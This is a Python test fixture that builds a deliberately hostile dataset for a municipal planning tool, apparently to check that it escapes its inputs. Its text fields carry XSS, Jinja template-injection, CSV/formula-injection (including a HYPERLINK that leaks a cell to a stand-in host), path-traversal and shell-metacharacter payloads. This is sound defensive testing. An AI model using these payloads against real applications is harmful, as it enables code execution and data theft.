"""A city in whose every text somebody tries to run something: in the browser, in Jinja, in Python, in a spreadsheet.

Each payload that runs in a page sets window.sozialraumRan; each that runs in Python makes a file named RAN.
"""

import csv
import io
import json
import re
import tempfile
from pathlib import Path

from cities import CRS, PROJECT, SOUTH, WEST, feature, geojson, square, write_city
from sources.planned import HERE, QUOTA
from sources.workbooks import xlsx

STATUS = "<script>STAND</script>"
RAN = "python-ran-a-payload"
JS = "window.sozialraumRan=1"
JINJA = "{{ cycler.__init__.__globals__.os.system('touch " + RAN + "') }}"

PAYLOADS = (
    f"<script>{JS}</script>",
    f'<img src=x onerror="{JS}">',
    f"`+({JS})+`",
    f"\\`+({JS})+\\`",
    f"${{{JS}}}",
    f"</script><script>{JS}</script>",
    "{{7*7}}",
    JINJA,
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/hostname' %}{% raise %}",
    "{% for x in range(3) %}{# {{ x }} #}{% endfor %}",
    f"');{JS};('",
    f'");{JS};("',
    f"&lt;img src=x onerror={JS}&gt; &amp; &#x3c;",
    f'" onmouseover="{JS}" autofocus onfocus="{JS}',
    f"' onclick='{JS}' x='",
    f"</title></style></textarea></select><svg onload={JS}>",
    f"<!--><img src=x onerror={JS}>--> ]]>",
    '<base href="https://boese.example/"><meta http-equiv="refresh" content="0;url=https://boese.example/">',
    '<form action="https://boese.example/"><button>Weiter</button></form><iframe src="https://boese.example/">',
    f'<a href="javascript:{JS}">hier</a>',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://boese.example/?x="&A1;"hier")',
    "Haus;=cmd|' /C calc'!A0;\"=1+1\"",
    "+49+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "vorher\u2028nachher\u2029ende",
    "rechts\u202eskniL\u202c links\u200b",
    "Ton\u0007 und Flucht\u001b[31m",
    "%s %n {0} {value} {file} $(touch x) ; rm -rf x | cat",
    "__proto__",
    "constructor",
)
# ids that would be a path, a device, one of our own files, or the same file on some systems
IDS = (
    "../../x",
    "..\\..\\y",
    "CON",
    "a",
    "A",
    "Wulfen/Barkenberg",
    "index",
    "data",
    "lizenzen",
    "manifest",
    "nul.txt",
    "/etc/passwd",
    "C:\\Windows",
    "__proto__",
    JINJA,
    "=1+1",
)
# further areas whose names are as hostile as their ids
NAMED = {
    "CON": "CON",
    "a": "a",
    "A": "A",
    "Wulfen/Barkenberg": "Wulfen/Barkenberg",
    "index": "index",
    "data": "data",
    "../../x": "../../x",
    "lizenzen": "Lizenzen",
    "manifest": "manifest.json",
}
REGISTER = f"""[addresses]
file = "addresses/register.csv"
source = "jugendamt"
crs = "{CRS}"
columns = {{ street = "STRASSE", house_number = "HNR", place = "ORT", x = "RECHTS", y = "HOCH" }}

"""
PLANNING = """[cohorts]
preset = "nrw"
label = { de = "Regeln" }
source = { de = "Gesetz" }

[[cohorts.groups]]
id = "alter_2"
label = { de = "zwei" }
short = { de = "2" }
kind = "kita"
from_age = 2
to_age = 2
note = { de = "Anmerkung" }

[[registers]]
file = "planung/kinder.csv"
columns = { area_id = "KEY", as_of = "TAG", birth_month = "MONAT", count = "KINDER" }
absent = "zero"
source = "melderegister"

[forecast]
years_ahead = 3
to_age = 3
note = { de = "Annahme" }
city_rates = [{ area = "a", because = { de = "Neubaugebiet" } }]

[[forecast.dwelling_types]]
id = "reihenhaus"
label = { de = "Reihenhaus" }
children_per_dwelling = [0.1, 0.2]
source = { de = "Erhebung" }

[[new_housing]]
area = "a"
year = 2025
dwellings = 90
type = "reihenhaus"
label = { de = "Baugebiet" }
source = { de = "Bebauungsplan" }

[[targets]]
coverage = "kita_u3"
target_pct = 50
reserve_pct = 5
source = { de = "Beschluss" }

[planning]
preset = "nrw"
schools = ["grundschule"]
familienzentren = "familienzentrum"
centre_children = ["u3"]

[[planning.nearest]]
id = "nah"
label = { de = "Nächste Schule" }
facility_types = ["grundschule"]

[[planned_measures]]
file = "planung/massnahmen.csv"
offer = "kita"
target_group = "u3"
status_names = { "<script>STAND</script>" = "im_bau" }
note = { de = "Liste" }
source = "jugendamt"
[planned_measures.columns]
measure = "NR"
label = "TITEL"
facility_id = "KITA"
places = "PLAETZE"
from_day = "AB"
status = "STAND"
who = "WER"
drucksache = "SACHE"
cost_eur = "EUR"

[[use]]
file = "planung/wohnort.csv"
columns = { facility_id = "NR", home = "WOHNORT", children = "KINDER" }
offer = "kita"
target_group = "u3"
period = "2023/24"
home_names = { "=cmd|' /C calc'!A0" = "outside" }
source = "jugendamt"

[[applications]]
file = "planung/anmeldungen.csv"
columns = { area_id = "KEY", children = "KINDER" }
coverage = "kita_u3"
period = "2023/24"
counted_on = "2024-03-15"
source = "jugendamt"

[[registrations]]
file = "planung/schulanmeldungen.csv"
columns = { facility_id = "SCHULE", year = "JAHR", children = "KINDER" }
source = "jugendamt"

"""
VIEWS = """
[[base_lines]]
id = "nachbarn"
label = { de = "Nachbarn" }
kind = "neighbour"
file = "boundaries/nachbarn.geojson"
names = "NAME"
source = "geo"

[background]
url = "https://karten.example/{z}/{x}/{y}.png"
attribution = { de = "Hintergrund" }

[[views]]
id = "halt"
title = { de = "Titel" }
sentence = { de = "Satz" }
figure = "residents"
area = "__proto__"
tab = "steckbrief"

[views.settings]
gruppe = "<img src=x onerror=window.sozialraumRan=1>"
vergleich = "__proto__,constructor,p00,%E0%A4%A"
karte2 = "__proto__"
einr = "constructor-__proto__-'><script>"

[[views]]
id = "gruppe"
title = { de = "Titel" }
sentence = { de = "Satz" }
figure = "residents"
settings = { gruppe = "sex=f", vergleich = "p00,p01", karte2 = "sgb2_u18" }

"""
LONG = "sehr lang " * 200
SCRIPT_URL = f"javascript:{JS}"
FIELDS = re.compile(r'\b(de|en|title|publisher|licence|rule|set_by) = "((?:[^"\\]|\\.)*)"')
WIDTH = 8


def toml(text: str) -> str:
    """A TOML string."""
    return json.dumps(text, ensure_ascii=False)


def area_names() -> dict[str, str]:
    """area id -> name: every payload is a name, every hostile id is an id."""
    names = {f"p{number:02}": payload for number, payload in enumerate(PAYLOADS)}
    return names | {id_: NAMED.get(id_, f"Gebiet {number}") for number, id_ in enumerate(IDS)}


def hostile_project() -> tuple[str, dict[str, list[str]]]:
    """(projekt.toml, its texts by key): every text of the fixture city's is replaced by a payload of its own."""
    used: dict[str, list[str]] = {}
    count = 0

    def replaced(match: re.Match[str]) -> str:
        nonlocal count
        text = f"{PAYLOADS[count % len(PAYLOADS)]} {count}"
        count += 1
        used.setdefault(match[1], []).append(text)
        return f"{match[1]} = {toml(text)}"

    head, _, rest = PROJECT.partition("[[joint_areas]]")
    _, _, tail = rest.partition("[disclosure")
    whole = f"{head}[disclosure{tail}".replace(QUOTA, 'cohorts = ["alter_0", "alter_1", "alter_2"]\n\n')
    project = FIELDS.sub(replaced, whole.replace(HERE, f"{PLANNING}{HERE}") + VIEWS)
    city = f"{PAYLOADS[1]} {JINJA}"
    used["city"] = [city]
    project = project.replace('name = "Musterstadt"', f"name = {toml(city)}")
    project = project.replace("[sources.melderegister]", f"[sources.melderegister]\nurl = {toml(SCRIPT_URL)}")
    project = project.replace("[sources.geo]", '[sources.geo]\nurl = "https://geo.example/\\"><script>"')
    return project.replace('file = "indicators/anteile.csv"', 'note = "n"\nfile = "indicators/anteile.csv"'), used


def table(rows: list[list[object]]) -> str:
    text = io.StringIO()
    csv.writer(text, delimiter=";", lineterminator="\n").writerows(rows)
    return text.getvalue()


def workbook(rows: list[list[object]]) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        return xlsx(Path(folder) / "a.xlsx", {"=1+1": rows, "Notiz": [["<b>"]]}).read_bytes()


def hostile_files() -> dict[str, str | bytes]:
    """Everything but projekt.toml."""
    names = area_names()
    corners = {id_: (number % WIDTH, number // WIDTH) for number, id_ in enumerate(names)}
    quarters = [
        feature(
            {"KEY": id_, "NAME": name, "<b>": PAYLOADS[0], JINJA: JINJA},
            {"type": "Polygon", "coordinates": square(*corners[id_])},
        )
        for id_, name in names.items()
    ]
    points = [
        feature({"nr": f"{payload} s", "name": payload}, {"type": "Point", "coordinates": [WEST + 99, SOUTH + 99]})
        for payload in PAYLOADS[:6]
    ]
    people: list[list[object]] = [["KEY", "KENNZAHL", "STICHTAG", "SEX", "WERT"]]
    shares: list[list[object]] = [["STADTTEIL", "KENNZAHL", "JAHR", "QUOTE", "ZAEHLER", "NENNER", "STATUS", "WORT"]]
    houses: list[list[object]] = [["NR", "NAME", "TRAEGER", "RECHTS", "HOCH", "KEY", "STATUS", "AB", "ANSCHRIFT"]]
    register: list[list[object]] = [["STRASSE", "HNR", "ORT", "RECHTS", "HOCH"]]
    places: list[list[object]] = [["NR", "GRUPPE", "KITAJAHR", "PLAETZE", "STUNDEN", "WORT"]]
    centres: list[list[object]] = [["NR", "SEIT", "VERBUND"]]
    children: list[list[object]] = [["KEY", "TAG", "MONAT", "KINDER"]]
    measures: list[list[object]] = [["NR", "TITEL", "KITA", "PLAETZE", "AB", "STAND", "WER", "SACHE", "EUR"]]
    used: list[list[object]] = [["NR", "WOHNORT", "KINDER"]]
    waiting: list[list[object]] = [["KEY", "KINDER"]]
    for number, (id_, name) in enumerate(names.items()):
        word = PAYLOADS[number % len(PAYLOADS)]
        parts = {"insgesamt": 1000 + number, "weiblich": 500, "männlich": 500 + number}
        people += [[id_, "Einwohner", "31.12.2023", sex, count] for sex, count in parts.items()]
        people.append([id_, "Kinder u3", "31.12.2023", "insgesamt", 40 + number])
        rates = ("SGB II", "Alleinerziehende")
        shares += [[name, rate, "2023", "", 20 + number, 200, "", f"{word} wert"] for rate in rates]
        east, north = corners[id_]
        x, y = WEST + 1000 * east + 500, SOUTH + 1000 * north + 500
        key = f"{id_} k"
        houses.append([key, f"{word} Haus", f"{word} Träger", x, y, id_, "offen", "", ""])
        register.append([f"{word} Weg", number + 1, f"{word} Ort", x, y])
        # a street that the register knows by another number only, so that the report quotes it
        houses.append([f"{id_} g", f"{word} Ferne", word, "", "", id_, "offen", "", f"{word} Weg {number + 200}"])
        places.append([key, "U3", "2023/24", 10, 45, f"{word} Platz"])
        children += [
            [id_, f"31.12.{year}", f"{year - age}-05", 9 + number % 7]
            for year in (2020, 2021, 2022, 2023)
            for age in range(5)
        ]
        title = word if number % 5 else f"{LONG}{word}"
        measures.append(
            [f"{word} {number}", title, key, 5, "01.02.2025", STATUS, f"{word} Amt", f"{word} Vorlage", 900_000]
        )
        used += [[key, id_, 6], [key, "=cmd|' /C calc'!A0", 3]]
        waiting.append([id_, 5])
        if number % 3 == 0:
            centres.append([key, "2019", f"{word} Verbund"])
    # one that stands outside, so that its name is quoted by a warning
    houses.append([f"{JINJA} weg", f"{JINJA} außen", PAYLOADS[0], WEST - 9999, SOUTH, "", "offen", "", ""])
    beside = [
        feature({"NAME": f"{payload} Land"}, {"type": "Polygon", "coordinates": square(at, -1)})
        for at, payload in enumerate(PAYLOADS[:WIDTH])
    ]
    bezirke: list[list[object]] = [["KEY", "BEZIRK", "BEZIRK_NAME"]]
    bezirke += [[id_, f"../{PAYLOADS[0]}", f"{PAYLOADS[5]} Bezirk"] for id_ in names]
    return {
        "boundaries/stadtteile.geojson": geojson(quarters),
        "boundaries/bezirke.csv": table(bezirke),
        "boundaries/nachbarn.geojson": geojson(beside),
        "indicators/bevoelkerung.csv": table(people),
        "indicators/anteile.csv": table(shares),
        "indicators/schulen.csv": table([["SCHULE", "SCHULJAHR", "STUFE"], [f"{PAYLOADS[0]} s", "2023/24", 4]]),
        "facilities/kitas.csv": table(houses),
        "facilities/schulen.geojson": geojson(points),
        "facilities/plaetze.csv": table(places),
        "facilities/familienzentren.xlsx": workbook(centres),
        "addresses/register.csv": table(register),
        "planung/kinder.csv": table(children),
        "planung/massnahmen.csv": table(measures),
        "planung/wohnort.csv": table(used),
        "planung/anmeldungen.csv": table(waiting),
        "planung/schulanmeldungen.csv": table(
            [["SCHULE", "JAHR", "KINDER"], *([f"{payload} s", "2024/25", 57] for payload in PAYLOADS[:6])]
        ),
    }


def write_hostile_city(folder: Path) -> Path:
    """Write it and return the path of its projekt.toml."""
    project, _ = hostile_project()
    project = project.replace('status = "STATUS" }', 'status = "STATUS", note = "WORT" }')
    project = project.replace('weekly_hours = "STUNDEN" }', 'weekly_hours = "STUNDEN", note = "WORT" }')
    project = project.replace('note = "n"\n', "")
    project = project.replace("familienzentren.csv", "familienzentren.xlsx")
    project = project.replace('x = "RECHTS", y = "HOCH", ', 'x = "RECHTS", y = "HOCH", address = "ANSCHRIFT", ', 1)
    project = project.replace("[disclosure.oeffentlich]", f"{REGISTER}[disclosure.oeffentlich]")
    return write_city(folder, add=hostile_files() | {"projekt.toml": project})
